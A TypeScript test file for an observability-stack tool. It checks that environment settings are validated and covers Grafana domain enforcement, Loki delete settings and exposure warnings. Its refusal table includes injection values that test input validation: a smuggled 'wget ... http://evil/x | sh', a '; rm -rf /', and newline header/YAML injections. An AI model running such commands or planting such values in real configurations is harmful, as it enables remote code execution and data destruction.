/**
 * Settings that reach a shell, a config, a header or an image reference (security review F8), and what the model
 * makes of the browser-facing parts (F1): Grafana's domain enforcement, Loki's delete API, the control token.
 */
import { readFileSync } from 'node:fs';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { ExitCode, UserError } from '../../scripts/lib/errors.js';
import { configDir } from '../../scripts/lib/paths.js';
import { buildStack, component } from '../../scripts/stack/model.js';
import { exposureWarnings, isLoopback } from '../../scripts/stack/exposure.js';
import { resolveStackOptions } from '../../scripts/stack/options.js';

const base = { XDG_CONFIG_HOME: mkdtempSync(join(tmpdir(), 'mop-cfg-')) };
const resolve = (env: Record<string, string | undefined>) => resolveStackOptions({ ...base, ...env });

function refused(env: Record<string, string>): string {
  try {
    resolve(env);
  } catch (e) {
    expect(e).toBeInstanceOf(UserError);
    expect((e as UserError).exitCode).toBe(ExitCode.usage);
    return (e as UserError).what;
  }
  throw new Error(`expected ${JSON.stringify(env)} to be refused`);
}

describe('settings validation', () => {
  it.each([
    ['MOP_S3_ENDPOINT', 's3.example:443 x; wget -qO- http://evil/x | sh; #', /s3Endpoint/],
    ['MOP_S3_ENDPOINT', 'https://s3.example.com', /s3Endpoint/],
    ['MOP_S3_ENDPOINT', 's3.example.com/bucket', /s3Endpoint/],
    ['MOP_S3_REGION', 'us-east-1"\nx: y', /s3Region/],
    ['MOP_TENANT', 'team\nX-Evil: 1', /tenant/],
    ['MOP_TENANT', '..', /tenant/],
    ['MOP_REGISTRY_MIRROR', 'https://mirror.example.com/', /registryMirror/],
    ['MOP_REGISTRY_MIRROR', 'mirror.example.com/ x', /registryMirror/],
    ['MOP_BIND_ADDRESS', 'localhost', /bindAddress/],
    ['MOP_BIND_ADDRESS', '127.0.0.1:80', /bindAddress/],
    ['MOP_IMAGE_ALLOY', 'grafana/alloy:v1.18.1; rm -rf /', /image override for alloy/],
    ['MOP_IMAGE_GRAFANA', 'Grafana/Grafana', /image override for grafana/],
  ])('refuses %s=%j', (key, value, message) => {
    expect(refused({ MOP_STORE: 'external', MOP_S3_ENDPOINT: 's3.example.com:443', [key]: value })).toMatch(message);
  });

  it.each([
    { MOP_S3_ENDPOINT: 's3.eu-west-1.amazonaws.com:443', MOP_S3_REGION: 'eu-west-1' },
    { MOP_S3_ENDPOINT: '10.0.0.5:9000', MOP_TENANT: 'team-a.prod_1' },
    { MOP_S3_ENDPOINT: 'minio', MOP_REGISTRY_MIRROR: 'localhost:5000/' },
    { MOP_S3_ENDPOINT: 's3:9000', MOP_IMAGE_GRAFANA: 'registry.example.com:5000/grafana/grafana:13.2.0@sha256:' + 'a'.repeat(64) },
    { MOP_S3_ENDPOINT: 's3:9000', MOP_BIND_ADDRESS: '::1' },
  ])('accepts %j', (env) => {
    expect(() => resolve({ MOP_STORE: 'external', ...env })).not.toThrow();
  });

  it('refuses a non-boolean or non-string value in the settings file shape', () => {
    expect(() => resolveStackOptions(base, { obi: 'yes' as never })).toThrow(/obi must be true or false/);
    expect(() => resolveStackOptions(base, { images: { alloy: 42 as never } })).toThrow(/image override for alloy/);
  });
});

describe('what settings become', () => {
  it('gives the S3 endpoint to the bucket job as a variable, never as script text', () => {
    const stack = buildStack(resolve({ MOP_STORE: 'external', MOP_S3_ENDPOINT: 's3.example.com:443' }));
    const job = component(stack, 'buckets')!;
    expect(job.args.join(' ')).not.toContain('s3.example.com');
    expect(job.args.join(' ')).toContain('"$S3_URL"');
    expect(job.env.S3_URL).toBe('https://s3.example.com:443');
  });

  it('serves Grafana on its published loopback address with the domain enforced', () => {
    const grafana = component(buildStack({ hostPorts: { 'grafana.http': 3001 } }), 'grafana')!;
    expect(grafana.env).toMatchObject({ GF_SERVER_DOMAIN: '127.0.0.1', GF_SERVER_ROOT_URL: 'http://127.0.0.1:3001/', GF_SERVER_ENFORCE_DOMAIN: 'true' });
    expect(component(buildStack({ bindAddress: '::1' }), 'grafana')!.env).toMatchObject({ GF_SERVER_DOMAIN: '::1', GF_SERVER_ROOT_URL: 'http://[::1]:3000/' });
  });

  it('never enforces a domain other than the root URL\'s host (Grafana would redirect in a loop)', () => {
    for (const opts of [{}, { profile: 'dev' as const }, { profile: 'prod' as const, s3Endpoint: 's3.example.com:443' }, { bindAddress: '0.0.0.0' }, { bindAddress: '::1' }]) {
      const env = component(buildStack(opts), 'grafana')!.env;
      expect(env.GF_SERVER_ENFORCE_DOMAIN).toBe('true');
      const host = new URL(String(env.GF_SERVER_ROOT_URL)).hostname.replace(/^\[|\]$/g, '');
      expect(env.GF_SERVER_DOMAIN, JSON.stringify(opts)).toBe(host);
    }
  });

  it('hands the demo its control token as a generated credential', () => {
    expect(component(buildStack({ demo: true }), 'demo')!.env.DEMO_CONTROL_TOKEN).toEqual({ secret: 'DEMO_CONTROL_TOKEN' });
  });

  it("turns off Loki's delete API (deletion_mode disabled) while keeping retention", () => {
    const loki = parse(readFileSync(join(configDir, 'loki', 'loki.yaml'), 'utf8'));
    expect(loki.limits_config.deletion_mode).toBe('disabled');
    expect(loki.compactor.retention_enabled).toBe(true);
  });
});

describe('exposure', () => {
  it('knows loopback addresses', () => {
    expect(['127.0.0.1', '127.1.2.3', '::1'].every(isLoopback)).toBe(true);
    expect(['0.0.0.0', '192.168.1.10', '::', '128.0.0.1'].some(isLoopback)).toBe(false);
  });

  it('announces a registry mirror on the privileged components, not on the others', () => {
    const opts = { registryMirror: 'mirror.example.com/', obi: true };
    const warnings = exposureWarnings(buildStack(opts), opts, false);
    // The gateway's image also runs the socket proxy, which holds the Docker socket on compose.
    expect(warnings.map((w) => w.split(' ')[0]).sort()).toEqual(['alloy', 'gateway', 'obi']);
    expect(warnings.find((w) => w.startsWith('gateway'))).toMatch(/socket proxy, which holds the Docker socket/);
    expect(exposureWarnings(buildStack({ obi: true }), { obi: true }, false)).toEqual([]);
  });
});
